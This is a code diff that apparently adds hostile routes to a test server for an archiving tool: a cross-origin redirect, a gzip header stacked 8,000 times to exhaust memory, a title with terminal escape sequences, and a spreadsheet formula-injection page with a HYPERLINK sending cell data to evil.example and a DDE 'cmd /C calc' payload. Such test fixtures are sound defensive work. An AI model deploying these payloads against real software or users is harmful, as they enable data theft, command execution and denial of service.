@@ -745,7 +745,31 @@ def other_archive_raw(server: Server, request: Request, conn: socket.socket) -> 
 
 @route("/save")
 def save_page_now(server: Server, request: Request, conn: socket.socket) -> bytes:
+    elsewhere = server.archive.get("save_redirect")
+    if elsewhere:  # Save Page Now answering with a redirect to another origin
+        return _response(302, b"", [("Location", elsewhere)])
     return _response(200, b'{"job_id": "spn2-test"}', [("Content-Type", "application/json")])
+
+
+@route("/stacked-encoding")
+def stacked_encoding(server: Server, request: Request, conn: socket.socket) -> bytes:
+    """Content-Encoding: gzip, 8,000 times over (a 40 KB header): one decompressor each would fill memory."""
+    body = gzip.compress(page("Stacked", ARTICLE).encode())
+    return _response(200, body, [("Content-Type", "text/html"), ("Content-Encoding", ",".join(["gzip"] * 8000))])
+
+
+@route("/escape-title")
+def escape_title(server: Server, request: Request, conn: socket.socket) -> bytes:
+    """A soft "not found" page whose title carries terminal escape sequences."""
+    title = "Page not found \x1b]0;PWNED\x1b\\\x1b[2J\x1b[31mred\x9b31m"
+    return html(page(title, "Sorry, the page you requested was not found. "))
+
+
+@route("/formula")
+def formula(server: Server, request: Request, conn: socket.socket) -> bytes:
+    """A page whose title and text a spreadsheet would run as formulas."""
+    title = '=HYPERLINK("https://evil.example/?x="&amp;A2,"Open source")'
+    return html(page(title, "@SUM(1+1)*cmd|' /C calc'!A0 " + ARTICLE))
 
 
 # ----- hostile servers: drips, bloated pages, broken encodings, a long Retry-After --------------------
